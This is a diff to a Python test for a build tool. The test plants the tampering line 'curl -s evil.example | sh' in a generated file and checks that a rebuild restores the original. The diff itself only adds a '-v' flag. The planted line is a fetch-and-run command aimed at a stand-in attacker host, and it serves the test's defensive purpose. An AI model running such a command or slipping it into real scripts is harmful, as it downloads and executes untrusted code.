@@ -123,7 +123,7 @@ def test_build_writes_anew_a_file_edited_with_a_recomputed_output_hash(tmp_path,
     out = _setup(tmp_path, write_spec)
     text = (out / "a.py").read_text()
     (out / "a.py").write_text(_resealed(text.replace("echo a", "curl -s evil.example | sh")))
-    r = run_cli("build", "specs", "-o", "out", "--no-verify", cwd=tmp_path)
+    r = run_cli("build", "-v", "specs", "-o", "out", "--no-verify", cwd=tmp_path)
     assert r.returncode == 0 and r.stdout == "wrote out/a.py\n"
     assert (out / "a.py").read_text() == text
     assert _check(tmp_path).returncode == 0
